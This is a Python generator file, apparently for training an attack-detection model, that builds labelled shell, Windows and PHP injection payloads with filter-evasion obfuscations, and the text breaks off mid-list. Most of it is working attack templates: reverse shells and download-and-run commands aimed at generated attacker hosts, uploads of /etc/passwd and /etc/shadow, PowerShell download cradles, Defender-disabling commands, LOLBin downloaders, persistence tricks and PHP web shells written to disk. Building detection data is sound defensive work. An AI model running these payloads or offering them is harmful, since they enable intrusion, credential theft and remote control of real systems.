"""Generators for the families the model catches too rarely, and for the evasions real tools apply.

Every payload is composed from parts (context, core, separator, obfuscation, encoding) drawn from a
seeded `random.Random`, so the same seed gives the same list. All parts are written here by hand;
no public payload list, regression suite or tool source was read or copied (see FAMILIES.md).

Labels (model classes): PHP code injection, SSI/ESI and server-side Node code injection -> cmdi;
Java/Spring expression languages (SpEL, OGNL, EL, MVEL, Groovy) -> ssti; prototype pollution ->
deserialization; JSFuck and other JS obfuscations -> xss; LFI/RFI wrappers -> path_traversal;
open redirect -> open_redirect.

    import families
    payloads = families.gen_all(random.Random(seed), scale)   # list[attacks.Payload]

`python3 families.py [scale]` prints per-family counts and five samples of each.
"""

from __future__ import annotations

import base64
import collections
import json
import random
import re
import sys
import urllib.parse

from attacks import Payload

# corpus.RequestFactory.inject puts hint "redirect" into redirect_uri/next/returnTo-style params;
# the brief said "url", which corpus maps to SSRF-style params (url, webhook_url). One place to change.
REDIRECT_HINT = "redirect"

# ----------------------------------------------------------------------------------------- helpers

_WORDS = ["alpha", "bravo", "cdn", "static", "img", "mail", "login", "secure", "update", "files", "drop", "pay", "acct",
          "portal", "auth", "sso", "cloud", "data", "sync", "api", "dl", "get", "my", "web", "app", "track", "link", "go",
          "redir", "promo", "verify", "support", "news", "shop", "free", "bonus", "id", "office", "docs", "share"]
_EVIL_ROOTS = ["evil", "attacker", "malicious", "phish", "badguy", "pwn", "hax", "exploit", "c2", "rogue", "xploit", "burp",
               "oast", "interact", "canary", "collab", "dnslog", "requestbin", "ngrok", "evilcorp", "h4x0r", "payload"]
_TLDS = ["com", "net", "org", "io", "xyz", "ru", "cn", "top", "info", "biz", "co", "me", "site", "online", "tk", "pw",
         "cc", "su", "ws", "live", "club", "app", "dev", "fun", "icu"]
_BRANDS = ["acme", "contoso", "globex", "initech", "northwind", "fabrikam", "umbrella", "hooli", "wayne", "stark", "tailspin", "adatum",
           "wingtip", "litware", "proseware", "vandelay", "soylent", "cyberdyne", "example", "massive", "piedpiper", "gringotts"]


def _trusted_domain(rng: random.Random) -> str:
    sub = rng.choice(["", "", "www.", "app.", "login.", "accounts.", "shop.", "my.", "id.", "portal.", "auth."])
    return sub + rng.choice(_BRANDS) + rng.choice(["", "", "-corp", "bank", "pay", "-app"]) + "." + rng.choice(["com", "com", "net", "org", "io", "co.uk", "de", "app"])


def _rs(rng: random.Random, n: int = 4, alphabet: str = "abcdefghijklmnopqrstuvwxyz") -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def _evil_domain(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.35:
        name = rng.choice(_EVIL_ROOTS) + rng.choice(["", "", str(rng.randint(1, 999)), "-" + rng.choice(_WORDS)])
    elif r < 0.7:
        name = rng.choice(_WORDS) + rng.choice(["-", ""]) + rng.choice(_WORDS + _EVIL_ROOTS)
    else:
        name = _rs(rng, rng.randint(5, 10), "abcdefghijklmnopqrstuvwxyz0123456789")
    dom = f"{name}.{rng.choice(_TLDS)}"
    if rng.random() < 0.25:
        dom = rng.choice(_WORDS) + "." + dom
    return dom


def _public_ip(rng: random.Random) -> str:
    while True:
        a = rng.randint(1, 223)
        if a in (10, 127, 169, 172, 192, 100, 0):
            continue
        return f"{a}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _attacker_host(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.4:
        return _public_ip(rng)
    if r < 0.55:
        return f"{_rs(rng, rng.randint(6, 20), 'abcdefghijklmnopqrstuvwxyz0123456789')}.{rng.choice(['oast.fun', 'oast.pro', 'oast.live', 'interact.sh', 'burpcollaborator.net', 'dnslog.cn', 'requestbin.net'])}"
    return _evil_domain(rng)


def _pct(s: str, safe: str = "") -> str:
    return urllib.parse.quote(s, safe=safe)


def _pct_all(s: str) -> str:
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def _pct_some(rng: random.Random, s: str, chars: str = " ;|&'\"<>()$`{}/=\n") -> str:
    return "".join(_pct(c) if c in chars and rng.random() < 0.7 else c for c in s)


def _rand_case(rng: random.Random, s: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def _hint(rng: random.Random, s: str, choices: list[str]) -> str:
    """Picks a hint; header and cookie only for texts without CR/LF (those would be CRLF injection there)."""
    h = rng.choice(choices)
    return "any" if h in ("header", "cookie") and ("\n" in s or "\r" in s) else h


def _collect(rng: random.Random, n: int, make) -> list[Payload]:
    """Calls make(rng) -> Payload up to ~4n times, keeping the first n distinct texts."""
    out, seen = [], set()
    tries = 0
    while len(out) < n and tries < 4 * n + 50:
        tries += 1
        p = make(rng)
        if p is None or not p.text or p.text in seen:
            continue
        seen.add(p.text)
        out.append(p)
    return out


# ------------------------------------------------------------------------------------ 1. shell (cmdi)

_UNIX_FILES = ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/etc/issue", "/etc/os-release", "/etc/hostname",
               "/etc/resolv.conf", "/etc/crontab", "/etc/sudoers", "/proc/self/environ", "/proc/version", "/proc/cpuinfo",
               "/root/.ssh/id_rsa", "/root/.bash_history", "~/.ssh/authorized_keys", "/var/log/auth.log", "/etc/mysql/my.cnf",
               "/home/*/.aws/credentials", "/var/www/html/config.php", "/etc/nginx/nginx.conf", "/proc/1/cgroup", "/etc/fstab"]
_RECON = ["id", "whoami", "uname -a", "uname -r", "hostname", "ifconfig", "ifconfig -a", "ip a", "ip addr show", "ip route",
          "netstat -antp", "netstat -tulpn", "ss -tulpn", "ps aux", "ps -ef", "w", "who", "last", "lsb_release -a", "env",
          "printenv", "set", "pwd", "ls -la", "ls -la /", "ls -al /tmp", "ls /var/www", "df -h", "mount", "arp -a",
          "sudo -l", "groups", "getent passwd", "cat /proc/version", "dmesg", "crontab -l", "history", "uptime",
          "ls -lR /home", "find / -perm -4000 -type f", "find / -name '*.conf'", "which nc python perl gcc", "echo $PATH",
          "echo $SHELL", "echo vulnerable", "echo {m}", "expr {a} + {b}", "dig {h}", "host {h}", "nslookup {h}", "ping -c {n} {h}",
          "traceroute {h}", "lsof -i", "docker ps", "kubectl get secrets", "cat /run/secrets/kubernetes.io/serviceaccount/token"]
_READERS = ["cat", "tac", "head", "tail", "more", "less", "nl", "od -c", "xxd", "strings", "base64", "sort", "uniq", "rev",
            "grep -r root", "awk '{{print}}'", "sed -n p", "cut -c1-", "diff /dev/null", "tail -n 50", "head -c 4096", "dd if="]
_DOWNLOAD = ["curl -s http://{h}/{f} | sh", "curl http://{h}/{f}|bash", "curl -fsSL {u} | bash -s", "wget -q -O- http://{h}/{f} | sh",
             "wget http://{h}/{f} -O /tmp/{r}; chmod +x /tmp/{r}; /tmp/{r}", "curl -o /tmp/{r} http://{h}/{f} && chmod 777 /tmp/{r} && /tmp/{r}",
             "cd /tmp; wget http://{h}/{f}; sh {f}", "busybox wget http://{h}/{f} -O- | sh", "tftp -g -r {f} {h}; sh {f}",
             "curl -d @/etc/passwd http://{h}/", "curl -F f=@/etc/shadow {u}", "wget --post-file=/etc/passwd http://{h}/",
             "curl {u}?d=$(whoami)", "curl http://{h}/`id|base64`", "wget -qO- {u} | python3", "curl -sk {u} | perl",
             "lwp-download http://{h}/{f} /tmp/{r}", "fetch -o /tmp/{r} http://{h}/{f}", "php -r \"copy('http://{h}/{f}','/tmp/{r}');\"",
             "python3 -c \"import urllib.request as u;exec(u.urlopen('{u}').read())\"", "curl {u} -o /var/www/html/{r}.php",
             "(curl -s {u}||wget -q -O- {u})|sh", "echo '* * * * * curl {u}|sh' | crontab -", "nohup curl {u}|sh &"]
_REVSHELL = ["bash -i >& /dev/tcp/{h}/{p} 0>&1", "bash -c 'bash -i >& /dev/tcp/{h}/{p} 0>&1'", "sh -i >& /dev/udp/{h}/{p} 0>&1",
             "0<&196;exec 196<>/dev/tcp/{h}/{p}; sh <&196 >&196 2>&196", "exec 5<>/dev/tcp/{h}/{p};cat <&5 | while read l; do $l 2>&5 >&5; done",
             "nc -e /bin/sh {h} {p}", "nc {h} {p} -e /bin/bash", "nc -c sh {h} {p}", "ncat {h} {p} -e /bin/bash", "ncat --ssl {h} {p} -e sh",
             "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {h} {p} >/tmp/f", "mknod /tmp/p p && nc {h} {p} 0</tmp/p | /bin/bash 1>/tmp/p",
             "socat tcp-connect:{h}:{p} exec:sh,pty,stderr,setsid,sigint,sane", "socat TCP:{h}:{p} EXEC:/bin/bash",
             "telnet {h} {p} | /bin/sh | telnet {h} {q}", "busybox nc {h} {p} -e sh", "nc -lvnp {p} -e /bin/sh",
             "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{h}\",{p}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
             "python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"{h}\",{p}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'",
             "perl -e 'use Socket;$i=\"{h}\";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");}};'",
             "php -r '$s=fsockopen(\"{h}\",{p});exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "ruby -rsocket -e'f=TCPSocket.open(\"{h}\",{p}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
             "awk 'BEGIN{{s=\"/inet/tcp/0/{h}/{p}\";while(1){{printf \"> \" |& s;s |& getline c;if(c){{while((c |& getline) > 0)print $0 |& s;close(c)}}}}}}'",
             "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{h}','{p}');os.execute('sh -i <&3 >&3 2>&3');\"",
             "node -e 'sh=require(\"child_process\").spawn(\"/bin/sh\");require(\"net\").connect({p},\"{h}\",function(){{this.pipe(sh.stdin);sh.stdout.pipe(this)}})'",
             "xterm -display {h}:1", "ssh -R {p}:localhost:22 u@{h}", "openssl s_client -quiet -connect {h}:{p} | /bin/sh"]
_INTERP = ["python -c 'import os;os.system(\"{c}\")'", "python3 -c \"__import__('os').system('{c}')\"", "python -c 'import pty;pty.spawn(\"/bin/sh\")'",
           "python3 -c 'import subprocess;print(subprocess.check_output(\"{c}\",shell=True))'", "perl -e 'system(\"{c}\")'", "perl -e 'exec \"/bin/sh\";'",
           "perl -MIO -e 'print `{c}`'", "ruby -e 'puts `{c}`'", "ruby -e 'exec \"{c}\"'", "php -r 'system(\"{c}\");'", "php -r 'passthru(\"{c}\");'",
           "lua -e 'os.execute(\"{c}\")'", "node -e 'require(\"child_process\").execSync(\"{c}\",{{stdio:\"inherit\"}})'",
           "awk 'BEGIN {{system(\"{c}\")}}'", "gawk 'BEGIN{{system(\"{c}\")}}' /dev/null", "find . -exec {c} \\;", "find / -name x -exec {c} \\; -quit",
           "find /etc -name passwd -exec cat {{}} +", "echo x | xargs {c}", "xargs -a /etc/passwd echo", "ls | xargs -I% sh -c '{c}'",
           "sh -c '{c}'", "bash -c \"{c}\"", "/bin/sh -c {c}", "env {c}", "nice {c}", "timeout 9 {c}", "eval {c}", "exec {c}",
           "echo {b64} | base64 -d | sh", "echo {b64}|base64 --decode|bash", "base64 -d <<< {b64} | sh", "bash<<<$(base64 -d<<<{b64})",
           "echo {hex} | xxd -r -p | sh", "chmod +x /tmp/{r}; /tmp/{r}", "chmod 4755 /bin/bash", "chmod u+s /usr/bin/find",
           "echo '{c}' > /tmp/{r}.sh; sh /tmp/{r}.sh", "(crontab -l; echo '*/1 * * * * {c}') | crontab -", "echo '{c}' >> ~/.bashrc",
           "echo 'ssh-rsa AAAAB3Nza{r} x@y' >> /root/.ssh/authorized_keys", "useradd -o -u 0 {r}", "echo '{r}::0:0::/:/bin/sh' >> /etc/passwd",
           "vim -c ':!{c}'", "less /etc/passwd !{c}", "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec={c}", "zip /tmp/x.zip /etc/hosts -T -TT '{c} #'",
           "git -c core.pager='{c}' log", "ssh -o ProxyCommand='{c}' x", "rsync -e 'sh -c \"{c}\"' x:/ /tmp", "gdb -nx -ex '!{c}' -ex quit",
           "strace -o /dev/null {c}", "watch -x {c}", "script -q -c '{c}' /dev/null", "at now <<< '{c}'", "setsid {c}", "nohup {c} &"]
_BLIND = ["sleep {n}", "sleep {n}s", "/bin/sleep {n}", "ping -c {n} 127.0.0.1", "ping -n {n} 127.0.0.1", "ping -c {n} localhost",
          "timeout {n} yes > /dev/null", "perl -e 'sleep {n}'", "python -c 'import time;time.sleep({n})'", "read -t {n}",
          "cat /dev/zero | head -c {n}000000 > /dev/null", "if [ $(whoami|cut -c1) = r ]; then sleep {n}; fi", "sleep $(({n}))",
          "[ -f /etc/passwd ] && sleep {n}", "test -e /etc/shadow && sleep {n}", "nslookup $(whoami).{oob}", "dig $(id -u).{oob}",
          "ping -c1 `hostname`.{oob}", "curl http://{oob}/$(uname -n)", "host `whoami`.{oob}", "wget {oob}/?x=$(cat /etc/hostname)"]
_SEPS = [";", "; ", " ; ", "|", " | ", "||", " || ", "&", " & ", "&&", " && ", "\n", "%0a", "%0A", "%0d%0a", "\r\n", "%3b", "%7c",
         "%26%26", "%7c%7c", "\n\n", ";;", "|\n", "&\n", "%0a%0d"]
_PREFIXES = ["", "", "", "127.0.0.1", "8.8.8.8", "localhost", "example.com", "1", "0", "x", "test", "file.txt", "report.pdf", "google.com",
             "'", "\"", "');", "\");", "1'", "abc\"", "`", "foo", ")", "${x}", "-", "--help", "a.jpg", "192.168.0.1"]
_SUFFIXES = ["", "", "", "", ";", " #", "#", ";#", " ;", " &", "|", " 2>&1", " >/dev/null 2>&1", " &>/dev/null", "'", "\"", "`", " -- ",
             ";'", "\"#", " | tee /tmp/o", "%00", "&", "\n"]


def _fill_cmd(rng: random.Random, t: str, c: str | None = None) -> str:
    h = _attacker_host(rng)
    f = rng.choice(["x.sh", "s", "a", "bot", "m.sh", "payload", "x86", "i.sh", "kinsing", "lb", "update.sh", "run", "1.txt", "sh.py"])
    m = _rs(rng, rng.randint(6, 12), "abcdef0123456789")
    inner = c or rng.choice(["id", "whoami", "uname -a", "cat /etc/passwd", "ls /", "sh", "touch /tmp/" + _rs(rng, 4)])
    vals = {
        "h": h, "f": f, "r": _rs(rng, rng.randint(3, 8)), "p": str(rng.choice([4444, 1337, 443, 80, 9001, 8080, 53, 31337, rng.randint(1025, 65535)])),
        "q": str(rng.randint(1025, 65535)), "u": f"http{rng.choice(['', 's'])}://{h}/{f}", "n": str(rng.randint(2, 30)), "m": m,
        "a": str(rng.randint(1, 9999)), "b": str(rng.randint(1, 9999)), "oob": f"{_rs(rng, 10, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{_evil_domain(rng)}",
        "c": inner, "b64": base64.b64encode(inner.encode()).decode(), "hex": inner.encode().hex(),
    }
    for k, v in vals.items():
        t = t.replace("{" + k + "}", v)
    return t.replace("{{", "{").replace("}}", "}")


def _shell_core(rng: random.Random) -> tuple[str, str]:
    r = rng.random()
    if r < 0.22:
        c = rng.choice(_RECON)
        if rng.random() < 0.3:
            c = rng.choice(["/usr/bin/", "/bin/", "/usr/sbin/", ""]) + c
        return "recon", _fill_cmd(rng, c)
    if r < 0.38:
        rd = rng.choice(_READERS)
        f = rng.choice(_UNIX_FILES)
        return "read", (rd + f if rd.endswith("=") else f"{rd} {f}")
    if r < 0.53:
        return "download", _fill_cmd(rng, rng.choice(_DOWNLOAD))
    if r < 0.68:
        return "revshell", _fill_cmd(rng, rng.choice(_REVSHELL))
    if r < 0.86:
        inner = rng.choice(["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "sh", "/bin/bash", "curl " + _attacker_host(rng), "wget " + _evil_domain(rng)])
        return "interp", _fill_cmd(rng, rng.choice(_INTERP), inner)
    return "blind", _fill_cmd(rng, rng.choice(_BLIND))


def _obf_quotes(rng: random.Random, word: str) -> str:
    out = []
    for i, ch in enumerate(word):
        out.append(ch)
        if 0 < i < len(word) and rng.random() < 0.4:
            out.append(rng.choice(["''", '""', "'", '"']))
    s = "".join(out)
    # unbalanced single quotes break the shell: balance by pairing
    if s.count("'") % 2:
        s = s.replace("'", "''", 1) if "'" in s else s
    if s.count('"') % 2:
        s = s.replace('"', '""', 1)
    return s


def _obf_shell(rng: random.Random, c: str) -> tuple[str, str]:
    """Applies one obfuscation real tools (and people) use to dodge keyword filters."""
    head, _, rest = c.partition(" ")
    word = head.split("/")[-1]
    prefix = head[: len(head) - len(word)]
    k = rng.randrange(13)
    if k == 0:
        return "obf-ifs", c.replace(" ", rng.choice(["${IFS}", "$IFS$9", "${IFS%??}", "$IFS", "${IFS}$9", "%09", "\t", "<"]))
    if k == 1 and len(word) > 2:
        return "obf-quotes", prefix + _obf_quotes(rng, word) + (" " + rest if rest else "")
    if k == 2 and len(word) > 2:
        i = rng.randint(1, len(word) - 1)
        return "obf-backslash", prefix + "".join(ch + ("\\" if rng.random() < 0.35 or j == i else "") for j, ch in enumerate(word[:-1])) + word[-1] + (" " + rest if rest else "")
    if k == 3 and len(word) > 2:
        i = rng.randint(1, len(word) - 1)
        return "obf-dollar-at", prefix + word[:i] + rng.choice(["$@", "$()", "${x}", "$*", "$1", "$u", "${9}"]) + word[i:] + (" " + rest if rest else "")
    if k == 4 and rest:
        return "obf-brace", "{" + ",".join([head] + rest.split(" ")) + "}"
    if k == 5:
        # wildcards in binary and file paths: /???/c?t /e??/p??swd
        def wild(tok: str) -> str:
            if "/" not in tok:
                return tok
            return "/".join("".join("?" if (ch.isalpha() and rng.random() < 0.5) else ch for ch in part) for part in tok.split("/"))
        b = rng.choice(["/bin/", "/usr/bin/"]) + word if not prefix else head
        return "obf-wildcard", " ".join(wild(t) for t in ([b] + (rest.split(" ") if rest else [])))
    if k == 6:
        hx = "".join("\\x%02x" % ord(ch) for ch in c)
        return "obf-printf", rng.choice([f"$(printf '{hx}')", f"`printf \"{hx}\"`", f"$(echo -e '{hx}')", f"$'{hx}'",
                                         "$(printf '" + "".join("\\%03o" % ord(ch) for ch in c) + "')", f"eval $(printf '{hx}')"])
    if k == 7 and len(word) >= 2:
        i = rng.randint(1, len(word) - 1)
        a, b = rng.choice(["a", "x", "c", "_", "v1", "p"]), rng.choice(["b", "y", "d", "__", "v2", "q"])
        ref = rng.choice([f"${a}${b}", f"${{{a}}}${{{b}}}", f"${a}${{{b}}}"])
        return "obf-varconcat", f"{a}={word[:i]};{b}={word[i:]};{prefix}{ref}" + (" " + rest if rest else "")
    if k == 8:
        b64 = base64.b64encode(c.encode()).decode()
        return "obf-base64", rng.choice([f"echo {b64}|base64 -d|sh", f"echo${{IFS}}{b64}|base64${{IFS}}-d|bash", f"bash -c \"$(echo {b64}|base64 -d)\"",
                                         f"`echo {b64}|base64 -d`", f"sh<<<$(base64 -d<<<{b64})", f"$(echo {b64} | base64 --decode)"])
    if k == 9:
        rv = c[::-1]
        return "obf-rev", rng.choice([f"$(rev<<<'{rv}')", f"echo '{rv}'|rev|sh", f"`echo \"{rv}\" | rev`"])
    if k == 10:
        return "obf-case", rng.choice([f"$(tr '[A-Z]' '[a-z]'<<<\"{c.upper()}\")", f"$(echo {c.upper()!r}|tr A-Z a-z)", f"x={c.upper()!r};${{x,,}}"])
    if k == 11:
        return "obf-substr", rng.choice(["${PATH:0:1}", "${HOME:0:1}", "${PWD:0:1}", "${LS_COLORS:10:1}"]).join(c.split("/")) if "/" in c else c.replace(" ", "${IFS}")
    return "obf-concat", " ".join(f"'{t}'" if rng.random() < 0.3 and t.isalnum() else t for t in c.split(" "))


def _shell_wrap(rng: random.Random, c: str) -> tuple[str, str]:
    r = rng.random()
    if r < 0.12:
        return "bare", c
    if r < 0.3:
        fam = "subst"
        body = rng.choice([f"$({c})", f"`{c}`", f"$( {c} )", f"\"$({c})\"", f"'$({c})'", f"$(${{IFS}}{c})", f"<({c})", f">({c})"])
        return fam, rng.choice(_PREFIXES) + body
    sep = rng.choice(_SEPS)
    tail = rng.choice(_SUFFIXES)
    if rng.random() < 0.15:
        tail += rng.choice(_SEPS) + _fill_cmd(rng, rng.choice(_RECON))  # chained
    return "sep", rng.choice(_PREFIXES) + sep + c + tail


def gen_shell(rng: random.Random, n: int) -> list[Payload]:
    def make(rng):
        kind, c = _shell_core(rng)
        fam = kind
        if rng.random() < 0.4:
            fam, c = _obf_shell(rng, c)
            if rng.random() < 0.15:
                _, c = _obf_shell(rng, c)
        wfam, s = _shell_wrap(rng, c)
        if rng.random() < 0.1:
            s = _pct_some(rng, s)
            fam += "-urlenc"
        return Payload("cmdi", s, "gen", f"cmdi:{fam}", _hint(rng, s, ["any"] * 6 + ["header", "cookie"]))
    return _collect(rng, n, make)


# ----------------------------------------------------------------------------- 1b. Windows (cmdi)

def _ps_enc(cmd: str) -> str:
    return base64.b64encode(cmd.encode("utf-16-le")).decode()


_PS_SCRIPTS = ["IEX (New-Object Net.WebClient).DownloadString('{u}')", "iex(iwr -UseBasicParsing {u})", "Invoke-Expression (Invoke-WebRequest {u}).Content",
               "(New-Object System.Net.WebClient).DownloadFile('{u}','$env:TEMP\\{r}.exe');Start-Process $env:TEMP\\{r}.exe",
               "Start-Process calc.exe", "Start-Process -FilePath cmd.exe -ArgumentList '/c {w}'", "Get-Content C:\\Windows\\win.ini",
               "gc $env:USERPROFILE\\.aws\\credentials", "Get-ChildItem -Force C:\\Users", "whoami /all", "Get-Process", "Get-Service",
               "[System.Net.Dns]::GetHostAddresses('{oob}')", "Resolve-DnsName $env:USERNAME.{oob}", "Start-Sleep -s {n}", "sleep {n}",
               "iwr {u} -OutFile C:\\Users\\Public\\{r}.ps1", "Invoke-WebRequest -Uri {u} -Method POST -Body (gc C:\\Windows\\win.ini)",
               "$c=New-Object Net.Sockets.TCPClient('{h}',{p});$s=$c.GetStream();[byte[]]$b=0..65535|%{{0}};while(($i=$s.Read($b,0,$b.Length)) -ne 0){{$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}}",
               "Set-MpPreference -DisableRealtimeMonitoring $true", "Add-MpPreference -ExclusionPath C:\\", "net user {r} P@ss{n}! /add",
               "[Reflection.Assembly]::Load((iwr {u}).Content)", "&('I'+'EX')((New-Object Net.WebClient).('Down'+'loadString')('{u}'))",
               "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64}')))", "Invoke-Command -ScriptBlock {{{w}}}",
               "${{env:ComSpec}} /c {w}", ".(gcm *ke-E*) 'whoami'", "&(gal ?e[?x]) 'whoami'", "Invoke-Item C:\\Windows\\System32\\calc.exe"]
_WIN_CMDS = ["whoami", "whoami /priv", "ipconfig /all", "net user", "net localgroup administrators", "systeminfo", "tasklist", "ver",
             "hostname", "dir C:\\", "dir c:\\users", "type C:\\Windows\\win.ini", "type %SYSTEMROOT%\\win.ini", "type C:\\boot.ini",
             "netstat -ano", "set", "echo %USERNAME%", "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "wmic os get caption",
             "wmic process call create calc", "ping -n {n} 127.0.0.1", "timeout /t {n}", "nslookup %USERNAME%.{oob}", "query user",
             "schtasks /create /sc minute /tn {r} /tr calc.exe", "sc query", "arp -a", "route print", "copy C:\\Windows\\win.ini C:\\inetpub\\wwwroot\\{r}.txt"]
_WIN_LOLBINS = ["certutil -urlcache -split -f {u} C:\\Windows\\Temp\\{r}.exe", "certutil.exe -urlcache -f {u} %TEMP%\\{r}.exe",
                "certutil -decode %TEMP%\\{r}.b64 %TEMP%\\{r}.exe", "bitsadmin /transfer {r} /download /priority high {u} C:\\Users\\Public\\{r}.exe",
                "mshta {u}", "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\":close\")", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
                "regsvr32 /s /n /u /i:{u} scrobj.dll", "rundll32 url.dll,FileProtocolHandler calc.exe", "msiexec /q /i {u}",
                "wmic /node:{h} process call create \"cmd /c {w}\"", "cscript //E:jscript %TEMP%\\{r}.txt", "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
                "pcalua.exe -a calc.exe", "curl.exe -o %TEMP%\\{r}.exe {u}", "expand \\\\{h}\\share\\{r}.exe %TEMP%\\{r}.exe", "esentutl.exe /y \\\\{h}\\s\\{r}.exe /d {r}.exe /o",
                "cmstp.exe /ni /s {u}", "InstallUtil.exe /logfile= /LogToConsole=false /U {r}.dll", "odbcconf /a {{REGSVR {r}.dll}}"]


def _caret(rng: random.Random, s: str) -> str:
    return "".join(ch + ("^" if ch.isalpha() and rng.random() < 0.35 else "") for ch in s)


def _ps_case(rng: random.Random, s: str) -> str:
    return re.sub(r"[A-Za-z-]{3,}", lambda m: _rand_case(rng, m.group(0)) if rng.random() < 0.5 else m.group(0), s)


def gen_windows(rng: random.Random, n: int) -> list[Payload]:
    def make(rng):
        w = _fill_cmd(rng, rng.choice(_WIN_CMDS))
        k = rng.random()
        if k < 0.45:
            script = _fill_cmd(rng, rng.choice(_PS_SCRIPTS))
            script = script.replace("{w}", w)
            r2 = rng.random()
            exe = rng.choice(["powershell", "powershell.exe", "pwsh", "PowerShell", "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -nop -w hidden", "powershell -NoP -NonI -W Hidden -Exec Bypass", "powershell -ep bypass"])
            if r2 < 0.35:
                flag = rng.choice(["-enc", "-e", "-EncodedCommand", "-ec", "-en", "-EnC"])
                s, fam = f"{exe} {flag} {_ps_enc(script)}", "powershell-enc"
            elif r2 < 0.75:
                q = rng.choice(['"', "'", ""]) if "'" not in script else '"'
                s, fam = f"{exe} {rng.choice(['-c', '-Command', '-command', ''])} {q}{script}{q}".replace("  ", " "), "powershell"
            else:
                s, fam = script, "powershell-bare"
            if rng.random() < 0.3:
                if fam == "powershell-enc":
                    head, _, body = s.rpartition(" ")
                    s = _ps_case(rng, head) + " " + body
                else:
                    s = _ps_case(rng, s)
        elif k < 0.75:
            s, fam = rng.choice([f"cmd /c {w}", f"cmd.exe /c \"{w}\"", f"cmd /k {w}", f"%COMSPEC% /c {w}", f"%ComSpec% /C {w}", w,
                                 f"c:\\windows\\system32\\cmd.exe /c {w}", f"cmd /v:on /c \"set x={w}&&call !x!\"",
                                 f"cmd /c \"set /p={w}<nul\"", f"cmd /c \"set a={w[:2]}&& set b={w[2:]}&& call %a%%b%\"",
                                 f"cmd /c {_caret(rng, w)}", _caret(rng, f"cmd /c {w}"), f"c^m^d /c {w}", f"%SYSTEMROOT%\\system32\\cmd /c {w}",
                                 f"cmd /c \"{w.replace(' ', ',')}\"", f"cmd;/c {w}", f"cmd/c{w}", f"%windir%\\system32\\{w}",
                                 f"cmd /c %PROGRAMFILES:~10,-5%{w}", f"for /f \"delims=\" %i in ('{w}') do @echo %i",
                                 f"\"c:\\windows\\system32\\cmd.exe\" /c {w}"]), "wincmd"
            if "^" in s:
                fam = "wincmd-caret"
            elif "set" in s and ("%a%" in s or "!x!" in s or "set /p" in s):
                fam = "wincmd-setvar"
        else:
            s, fam = _fill_cmd(rng, rng.choice(_WIN_LOLBINS)).replace("{w}", w), "lolbin"
            if rng.random() < 0.25:
                s = _caret(rng, s)
                fam = "lolbin-caret"
        sep = rng.choice(["& ", "&", "| ", "|", "&& ", "|| ", "\r\n", "%0a", "%26", "; ", ""])
        pre = rng.choice(["", "", "127.0.0.1 ", "x", "1", "\" ", "' ", "test.txt"]) if sep else ""
        tail = rng.choice(["", "", "", " &", " #", " & rem ", "\""])
        s = pre + sep + s + tail
        return Payload("cmdi", s, "gen", f"cmdi:{fam}", _hint(rng, s, ["any"] * 5 + ["header"]))
    return _collect(rng, n, make)


# ------------------------------------------------------------------------------ 2. PHP code (cmdi)

_PHP_EXEC = ["system", "exec", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "assert", "eval"]
_PHP_SHELL_CMDS = ["id", "whoami", "uname -a", "ls -la", "cat /etc/passwd", "pwd", "dir", "type C:\\\\Windows\\\\win.ini", "ifconfig", "wget http://{h}/s -O /tmp/s"]
_PHP_INPUT = ["$_GET['c']", "$_GET[c]", "$_POST['cmd']", "$_REQUEST['x']", "$_COOKIE['c']", "$_SERVER['HTTP_X']", "$_GET[0]",
              "$_POST[1]", "$_REQUEST[cmd]", "getenv('HTTP_CMD')", "file_get_contents('php://input')", "$_FILES['f']['tmp_name']"]
_PHP_PROBES = ["phpinfo()", "phpversion()", "print(md5({m}))", "echo md5('{m}')", "die(md5({m}))", "var_dump(ini_get_all())",
               "print_r(get_defined_vars())", "echo php_uname()", "var_dump(scandir('/'))", "echo getcwd()", "print_r(posix_getpwuid(posix_geteuid()))",
               "echo file_get_contents('/etc/passwd')", "readfile('/etc/passwd')", "highlight_file('index.php')", "show_source(__FILE__)",
               "print_r(glob('/var/www/*'))", "var_dump(disk_total_space('/'))", "sleep({n})", "usleep({n}000000)", "echo {a}*{b}",
               "var_dump(ini_get('disable_functions'))", "echo get_current_user()", "print(hash('sha1','{m}'))", "echo base64_encode(file_get_contents('config.php'))"]
_PHP_WRITE = ["file_put_contents('{r}.php','<?php system($_GET[c]);?>')", "file_put_contents('/var/www/html/{r}.php',base64_decode('{b64}'))",
              "fwrite(fopen('{r}.php','w'),'<?php eval($_POST[x]);?>')", "copy('http://{h}/s.txt','{r}.php')", "move_uploaded_file($_FILES['f']['tmp_name'],'{r}.php')",
              "file_put_contents('.htaccess','AddType application/x-httpd-php .jpg')", "unlink('index.php')", "mkdir('/tmp/{r}')",
